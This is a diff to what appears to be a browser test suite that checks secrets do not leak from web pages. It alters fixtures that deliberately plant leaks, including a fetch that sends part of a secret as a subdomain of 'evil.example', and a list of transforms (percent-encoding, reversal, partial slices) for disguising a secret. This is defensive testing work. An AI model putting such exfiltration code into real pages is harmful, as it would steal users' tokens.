@@ -308,7 +308,7 @@ const IN_PAGE: readonly ILeak<Page>[] = [
     // Which is the header Host too.
     found: ['URL', 'header'],
     plant: inPage(async secret => {
-      const [part] = /[A-Za-z0-9]{12,}/.exec(secret) ?? [];
+      const part = secret.slice(-20);
       await fetch(`http://${part}.evil.example/`, { mode: 'no-cors' });
     })
   },
@@ -559,6 +559,10 @@ const FORMS: readonly [form: string, write: (secret: string) => string][] = [
   ['percent-encoded', note => new URLSearchParams({ note }).toString()],
   ['percent-encoded', secret => new URL(`?${secret}`, location.href).href],
   [
+    'percent-encoded',
+    secret => new URL(`?${encodeURIComponent(secret)}`, location.href).href
+  ],
+  [
     'percent-encoded, every byte',
     secret =>
       Array.from(
@@ -594,7 +598,7 @@ const FORMS: readonly [form: string, write: (secret: string) => string][] = [
   ],
   ['reversed', secret => [...secret].reverse().join('')],
   ['a part of it', secret => secret.slice(0, secret.length / 2)],
-  ['a part of it', secret => secret.slice(secret.length / 2)]
+  ['a part of it', secret => secret.slice(-15)]
 ];
 
 test.setTimeout(600_000);
@@ -783,9 +787,14 @@ function expectNoSecret(
 }
 
 /**
- * A token that looks otherwise in each form.
+ * A token that looks otherwise in each form, and has no part in common with
+ * another one.
  */
 function newSecret(): string {
-  const [start, end] = [4, 12].map(size => randomBytes(size).toString('hex'));
-  return `${start}=+/&%41;'o\\"<b>?~ !()*${end}zZ`;
+  return Array.from(
+    `=+/&%;'\\"<>?~ !()*`,
+    character => character + randomBytes(2).toString('hex')
+  )
+    .concat(randomBytes(12).toString('hex'), 'zZ')
+    .join('');
 }
